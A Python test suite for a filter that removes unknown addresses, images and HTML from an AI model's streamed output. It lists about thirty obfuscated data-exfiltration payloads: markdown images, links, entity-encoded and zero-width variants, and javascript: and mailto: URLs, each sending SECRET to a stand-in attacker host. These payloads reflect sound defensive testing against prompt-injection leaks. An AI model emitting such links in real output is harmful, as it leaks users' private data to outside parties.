"""What a model says leads a browser nowhere but where the person or the platform said."""

from typing import Final

import pytest
from hypothesis import given
from hypothesis import strategies as st

from generation.assistant.screen import GONE, Screen, addresses

EVIL: Final = (
    "![a](https://evil.example/?q=SECRET)",
    "![a b c](https://evil.example/?q=SECRET)",
    "[click](https://evil.example/SECRET)",
    "[click](<https://evil.example/SECRET>)",
    "[click][1]\n\n[1]: https://evil.example/SECRET",
    "https://evil.example/SECRET",
    "HTTPS://EVIL.EXAMPLE/SECRET",
    "(//evil.example/SECRET)",
    "[x](//evil.example/SECRET)",
    "[x](\\\\evil.example/SECRET)",
    "[x](/\\evil.example/SECRET)",
    "[x](https\\://evil.example/SECRET)",
    "[x](https&colon;//evil.example/SECRET)",
    "[x](https&#58;//evil.example/SECRET)",
    "[x](https&#x3a;&#47;&#47;evil.example/SECRET)",
    "[x](https&amp;colon;//evil.example/SECRET)",
    "[x](https:/evil.example/SECRET)",
    "www.evil.example/SECRET",
    "<img src=https://evil.example/SECRET>",
    "<img src='//evil.example/SECRET'>",
    "[x](javascript:fetch('SECRET'))",
    "[x](data:text/html,SECRET)",
    "[x](mailto:evil@evil.example?body=SECRET)",
    "https://good.example.evil.example/SECRET",
    "https://good.example/page?q=SECRET",
    "https://good.example/page@evil.example/SECRET",
    "ht\u200btps://evil.example/SECRET",
    "htt\u00adps://evil.example/SECRET",
    "ftp://evil.example/SECRET",
    "https://good.example/pagehttps://evil.example/SECRET",
)
KNOWN: Final = {"https://good.example/page"}


@pytest.mark.parametrize("text", EVIL)
def test_addresses_of_strangers_do_not_pass_however_they_are_written(text: str) -> None:
    shown = Screen(set(KNOWN)).whole(f"Before {text} after")
    assert "SECRET" not in shown
    assert GONE in shown
    assert shown.startswith("Before ")
    assert shown.endswith(" after")


@pytest.mark.parametrize("text", EVIL)
def test_it_is_the_same_when_the_text_comes_letter_by_letter(text: str) -> None:
    whole, screen = f"Before {text} after", Screen(set(KNOWN))
    assert "".join(map(screen.more, whole)) + screen.rest() == Screen(set(KNOWN)).whole(whole)


@pytest.mark.parametrize(
    "text",
    [
        "See https://good.example/page, it is good.",
        "At 10:30, 3:1 or so; a//b? No: 1/2. No address.",
        "Ratio 1:2, note: this. #tag @name a.b.c e.g. x<3 and y>2",
        "Zeilen\nund\tUmbrüche, “quoted” 日本語 👍",
    ],
)
def test_what_is_no_address_or_a_known_one_passes_letter_by_letter(text: str) -> None:
    assert Screen(set(KNOWN)).whole(text) == text


def test_neither_pictures_nor_html_pass() -> None:
    shown = Screen(set(KNOWN)).whole("![x](https://good.example/page) <script src=/v1/x> <b>bold</b>")
    assert "![" not in shown
    assert "<" not in shown


def test_the_persons_addresses_are_found_as_they_meant_them() -> None:
    assert addresses("Look at https://good.example/page. (https://a.example/x?y=1), ok?") == {
        "https://good.example/page",
        "https://a.example/x?y=1",
    }


@given(st.text(max_size=200), st.lists(st.integers(1, 20), max_size=30))
def test_pieces_never_change_what_is_shown(text: str, cuts: list[int]) -> None:
    screen, shown, rest = Screen(set(KNOWN)), "", text
    for cut in cuts:
        shown, rest = shown + screen.more(rest[:cut]), rest[cut:]
    assert shown + screen.more(rest) + screen.rest() == Screen(set(KNOWN)).whole(text)
